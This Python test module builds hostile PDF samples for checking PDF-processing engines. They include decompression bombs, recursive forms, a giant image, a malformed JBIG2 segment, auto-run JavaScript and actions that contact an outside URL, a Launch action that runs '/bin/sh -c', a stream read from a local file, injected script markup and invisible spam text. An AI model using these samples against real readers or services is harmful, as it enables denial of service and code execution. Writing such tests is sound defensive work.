"""PDFs whose content is the attack: streams that unpack for ever, forms that draw forms, pictures, actions, texts."""

from __future__ import annotations

import struct
import zlib

from tests.engines.pdf_samples import raw_pdf
from tests.hostile.kinds.kind import Outside, kind

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"


def squeezed(count: int, unit: bytes = b" ") -> bytes:
    """`count` bytes made of `unit`, deflated, without ever being in memory."""
    packer, chunk = zlib.compressobj(9), unit * ((1 << 20) // len(unit))
    made = [packer.compress(chunk) for _ in range(count // len(chunk))]
    return b"".join([*made, packer.compress(chunk[: count % len(chunk)]), packer.flush()])


def _stream(content: bytes, words: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (words, len(content), content)


def _page(content: bytes, *, resources: bytes = b"", more: dict[int, bytes] | None = None, words: bytes = b"") -> bytes:
    return raw_pdf(
        {
            1: _CATALOG,
            2: _PAGES,
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000 2000]/Contents 4 0 R/Resources<<%s>>>>" % resources,
            4: _stream(content, words),
            **(more or {}),
        }
    )


def _blanks(_: Outside) -> bytes:
    return _page(squeezed(1 << 30), words=b"/Filter/FlateDecode")


def _thrice(_: Outside) -> bytes:
    packed = zlib.compress(zlib.compress(squeezed(1 << 28, b"\0"), 9), 9)
    return _page(packed, words=b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")


def _form(content: bytes, next_: int) -> bytes:
    words = b"/Type/XObject/Subtype/Form/BBox[0 0 2000 2000]/Resources<</XObject<</F %d 0 R>>>>" % next_
    return _stream(content, words)


def _form_levels(_: Outside) -> bytes:
    """28 forms, each drawing the next three times: 3^28 drawings in four kilobytes."""
    forms = {n: _form(b"/F Do /F Do /F Do", n + 1) for n in range(5, 33)}
    forms[33] = _stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return _page(b"/F Do", resources=b"/XObject<</F 5 0 R>>", more=forms)


def _form_itself(_: Outside) -> bytes:
    return _page(b"/F Do", resources=b"/XObject<</F 5 0 R>>", more={5: _form(b"/F Do /F Do", 5)})


def _picture(data: bytes, words: bytes) -> bytes:
    return _page(
        b"2000 0 0 2000 0 0 cm /F Do",
        resources=b"/XObject<</F 5 0 R>>",
        more={5: _stream(data, b"/Type/XObject/Subtype/Image" + words)},
    )


def _giant_picture(_: Outside) -> bytes:
    data = squeezed(60_000 * 60_000 // 10, b"\x7f")
    return _picture(data, b"/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode")


def _jbig2(_: Outside) -> bytes:
    page = struct.pack(">IIIIBH", 65_535, 65_535, 0, 0, 0, 0)
    segments = struct.pack(">IBBBI", 0, 48, 0, 1, len(page)) + page
    region = struct.pack(">IIIIB", 65_535, 65_535, 0, 0, 0) + struct.pack(">B8b", 0, 3, -1, -3, -1, 2, -2, -2, -2)
    segments += struct.pack(">IBBBI", 1, 38, 0, 1, 0x7FFFFFFF) + region + b"\xff" * 200
    return _picture(segments, b"/Width 65535/Height 65535/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode")


def _tiling(_: Outside) -> bytes:
    words = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>"
    return _page(
        b"/Pattern cs /P scn 0 0 2000 2000 re f",
        resources=b"/Pattern<</P 5 0 R>>",
        more={5: _stream(b"0 0 1 1 re f", words)},
    )


def _with_action(action: bytes) -> bytes:
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
            2: _PAGES,
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 4 0 R>>>>",
            4: action,
        }
    )


def _annotated(out: Outside) -> bytes:
    """Links, a file attached by address, a form that submits itself: all name the outside."""
    url, text = out.url.encode(), out.text.encode()
    acts = [
        b"<</S/URI/URI(%s/pdf-uri)>>" % url,
        b"<</S/GoToR/F<</FS/URL/F(%s/pdf-gotor)>>/D[0/Fit]>>" % url,
        b"<</S/SubmitForm/F<</FS/URL/F(%s/pdf-submit)>>>>" % url,
        b"<</S/ImportData/F(%s)>>" % text,
        b"<</S/GoToE/F(%s)/D[0/Fit]>>" % text,
    ]
    notes = b" ".join(b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A %s/AA<</PO %s>>>>" % (a, a) for a in acts)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[%s]/AA<</O %s>>>>" % (notes, acts[2])
    return raw_pdf({1: b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % acts[1], 2: _PAGES, 3: page})


def _external_stream(out: Outside) -> bytes:
    """A picture and a page whose bytes lie in another file, at an address."""
    stream = b"/F<</FS/URL/F(%s/pdf-stream)>>" % out.url.encode()
    image = b"/Type/XObject/Subtype/Image/Width 48/Height 48/ColorSpace/DeviceRGB/BitsPerComponent 8"
    file = b"/F(%s)" % out.picture.removeprefix("file://").encode()
    return _page(
        b"/F Do /G Do",
        resources=b"/XObject<</F 5 0 R/G 6 0 R>>",
        more={5: _stream(b"", image + stream), 6: _stream(b"", image + file)},
    )


def _markup(_: Outside) -> bytes:
    mark = b"<script>alert(1)</script><img src=x onerror=alert(2)>"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    made = _page(b"BT /F1 12 Tf 10 500 Td (%s) Tj ET" % mark, resources=b"/Font<</F1 5 0 R>>", more={5: font})
    return made.replace(b"trailer<<", b"trailer<</Info<</Title(%s)/Author(%s)>>" % (mark, mark))


def _invisible(_: Outside) -> bytes:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    words = b"BT /F1 12 Tf 3 Tr 10 500 Td (%s) Tj ET" % (b"cheap loans " * 400)
    return _page(words, resources=b"/Font<</F1 5 0 R>>", more={5: font})


_STOPPED = "kept: timeout | kept: memory | text only: timeout | text only: memory"

KINDS = (
    kind("pdf-flate-milliard.pdf", f"published | {_STOPPED} | kept: unreadable", _blanks, dear=True),
    kind("pdf-flate-thrice.pdf", f"published | {_STOPPED} | kept: unreadable", _thrice, dear=True),
    kind("pdf-form-levels.pdf", f"published | {_STOPPED}", _form_levels, dear=True),
    kind("pdf-form-itself.pdf", f"published | {_STOPPED}", _form_itself, dear=True),
    kind("pdf-picture-giant.pdf", f"published | {_STOPPED}", _giant_picture, dear=True),
    kind("pdf-jbig2.pdf", f"published | {_STOPPED} | kept: crash", _jbig2, dear=True),
    kind("pdf-tiling.pdf", f"published | {_STOPPED}", _tiling, dear=True),
    kind(
        "pdf-javascript.pdf",
        "published",
        lambda out: _with_action(
            b"<</S/JavaScript/JS(app.launchURL\\('%s/pdf-js'\\); while\\(1\\);)>>" % out.url.encode()
        ),
    ),
    kind(
        "pdf-launch.pdf",
        "published",
        lambda _: _with_action(b"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c 'touch /tmp/owned')>>>>"),
    ),
    kind("pdf-actions.pdf", "published", _annotated),
    kind("pdf-external-stream.pdf", "published", _external_stream),
    kind("pdf-markup.pdf", "published", _markup),
    kind("pdf-invisible-text.pdf", "published", _invisible),
)
